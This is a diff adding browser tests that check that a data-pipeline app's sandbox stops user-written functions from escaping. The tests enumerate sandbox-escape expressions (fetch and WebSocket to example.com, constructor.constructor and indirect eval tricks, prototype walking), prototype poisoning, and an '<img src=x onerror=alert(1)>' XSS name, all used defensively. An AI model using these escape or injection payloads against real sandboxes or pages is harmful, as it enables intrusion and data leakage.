@@ -1,0 +1,121 @@
+import { documentOf, filtered, FIVE_READINGS } from './documents.ts';
+import { expect, test } from './test.ts';
+
+/** Ways by which a function of somebody else could try to get out, or to find out. Each must fail, and fail visibly. */
+const ESCAPES = [
+  ['fetch', "fetch('https://example.com/?' + r.id)"],
+  ['XMLHttpRequest', "new XMLHttpRequest().open('GET', 'https://example.com')"],
+  ['WebSocket', "new WebSocket('wss://example.com')"],
+  ['EventSource', "new EventSource('https://example.com')"],
+  ['sendBeacon', "navigator.sendBeacon('https://example.com', r.id)"],
+  ['IndexedDB', "indexedDB.open('millrace')"],
+  ['the file system of the origin', 'navigator.storage.getDirectory()'],
+  ['the cache', "caches.open('x')"],
+  ['messages to the coordinator', "postMessage({ kind: 'finished' })"],
+  ['messages by self', "self.postMessage({ kind: 'finished' })"],
+  ['a broadcast to the page', "new BroadcastChannel('millrace/tabs').postMessage('hello')"],
+  ['a nested worker', "new Worker('data:text/javascript,fetch(1)')"],
+  ['a foreign script', "importScripts('https://example.com/x.js')"],
+  ['a constructor of functions', "[].constructor.constructor('return fetch')()('https://example.com')"],
+  ['the global object by its back door', "(0, eval)('this').fetch('https://example.com')"],
+  ['an asynchronous constructor', '(async () => {}).constructor(\'return fetch("https://example.com")\')()'],
+  ['a timer', 'setTimeout(() => 1, 0)'],
+  ['the prototype of the worker', "Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, 'https://example.com')"],
+  ['the prototype of everything', "({}).constructor.getPrototypeOf(globalThis).constructor.prototype.postMessage({ kind: 'finished' })"],
+  ['the clock', 'Date.now()'],
+  ['chance', 'Math.random()'],
+] as const;
+
+test.describe('a function cannot reach', () => {
+  for (const [what, expression] of ESCAPES) {
+    test(what, async ({ studio, page }) => {
+      const requests: string[] = [];
+      page.on('request', (request) => requests.push(request.url()));
+      page.context().on('request', (request) => requests.push(request.url()));
+      const sockets: string[] = [];
+      page.on('websocket', (socket) => sockets.push(socket.url()));
+      await studio.openFresh();
+      await studio.openDocument(documentOf('escape', filtered(`(r) => {\n  ${expression};\n  return true;\n}`), FIVE_READINGS));
+      // Refused when it is read, or when it is run: in both cases no record passes.
+      const run = page.getByRole('group', { name: 'Run', exact: true }).getByRole('button', { name: 'Run' });
+      if ((await run.getAttribute('aria-disabled')) === 'true') {
+        expect((await studio.problems()).join()).toMatch(/^Error.*Warm/s);
+      } else {
+        await studio.setSpeed('Max');
+        await studio.run();
+        await studio.waitForStatus('Failed');
+        await expect(studio.error).toContainText('Warm');
+      }
+      expect(requests.filter((url) => !url.startsWith('http://127.0.0.1:') && !url.startsWith('blob:http://127.0.0.1:'))).toEqual([]);
+      expect(sockets).toEqual([]);
+    });
+  }
+
+  test('other scripts by import()', async ({ studio, page }) => {
+    const requests: string[] = [];
+    page.context().on('request', (request) => requests.push(request.url()));
+    await studio.openFresh();
+    await studio.openDocument(
+      documentOf('import', filtered("(r) => {\n  import('https://example.com/x.js').catch(() => 0);\n  return true;\n}"), FIVE_READINGS),
+    );
+    const run = page.getByRole('group', { name: 'Run', exact: true }).getByRole('button', { name: 'Run' });
+    if ((await run.getAttribute('aria-disabled')) !== 'true') {
+      await studio.setSpeed('Max');
+      await studio.run();
+      await expect(studio.status).toHaveText(/Finished|Failed/);
+    }
+    expect(requests.filter((url) => url.includes('example.com'))).toEqual([]);
+  });
+});
+
+test('what one function leaves behind does not reach the results of another run', async ({ studio }) => {
+  await studio.openFresh();
+  const poison =
+    "(r) => {\n  Array.prototype.push = () => 0;\n  Object.prototype.temperature = 99;\n  JSON.stringify = () => 'x';\n  return true;\n}";
+  await studio.openDocument(documentOf('poison', filtered(poison), FIVE_READINGS));
+  await studio.setSpeed('Max');
+  await studio.run();
+  await expect(studio.status).toHaveText(/Finished|Failed/);
+  await studio.select('Warm');
+  await studio.setFunction('Keep a record when', '(r) => true');
+  await studio.run();
+  await studio.waitForStatus('Finished');
+  expect(await studio.resultRows()).toHaveLength(5);
+});
+
+test('a document with a hostile name or text shows it and runs nothing of it', async ({ studio, page }) => {
+  await studio.openFresh();
+  let alerted = false;
+  page.on('dialog', (dialog) => {
+    alerted = true;
+    void dialog.dismiss();
+  });
+  const name = '<img src=x onerror=alert(1)>';
+  await studio.openDocument(
+    documentOf(
+      name,
+      filtered('(r) => true').map((step) => ({ ...step, name })),
+      FIVE_READINGS,
+    ),
+  );
+  await expect(page.getByRole('textbox', { name: 'Name of the pipeline' })).toHaveValue(name);
+  await studio.runToEnd();
+  await expect(studio.canvas.getByText(name).first()).toBeVisible();
+  expect(alerted).toBe(false);
+});
+
+test('the page forbids what it does not need', async ({ page }) => {
+  const response = await page.goto('/');
+  const policy = response?.headers()['content-security-policy'] ?? '';
+  expect(policy).toContain("script-src 'self'");
+  expect(policy).not.toContain('unsafe-eval');
+  expect(
+    await page.evaluate(() => {
+      try {
+        return new Function('return 1')() as unknown;
+      } catch (error) {
+        return (error as Error).name;
+      }
+    }),
+  ).toBe('EvalError');
+});
